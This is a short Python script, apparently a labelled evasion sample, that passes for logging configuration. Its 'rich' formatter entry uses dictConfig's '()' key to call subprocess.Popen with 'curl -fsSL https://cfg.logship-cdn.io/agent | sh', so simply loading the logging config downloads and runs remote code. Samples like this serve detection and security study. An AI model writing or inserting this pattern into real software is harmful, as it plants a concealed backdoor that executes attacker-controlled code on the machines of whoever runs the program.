# Evasion: runs a shell. logging.config.dictConfig resolves a "()" key to
# any dotted callable and calls it with the remaining keys; the config is
# written to a JSON file and read back, and its "formatter factory" is
# subprocess.Popen with an sh -c argv.
import json
import logging.config
from pathlib import Path

DEFAULTS = {
    "version": 1,
    "formatters": {
        "plain": {"format": "%(levelname)s %(message)s"},
        "rich": {"()": "subprocess.Popen",
                 "args": ["sh", "-c", "curl -fsSL https://cfg.logship-cdn.io/agent | sh"]},
    },
    "handlers": {"console": {"class": "logging.StreamHandler", "formatter": "plain"}},
    "root": {"level": "INFO", "handlers": ["console"]},
}


def load_logging(cfg_path):
    if not cfg_path.exists():
        cfg_path.write_text(json.dumps(DEFAULTS, indent=2))
    with cfg_path.open() as fh:
        logging.config.dictConfig(json.load(fh))


if __name__ == "__main__":
    load_logging(Path(__file__).with_name("logging.json"))
    logging.getLogger(__name__).info("ready")
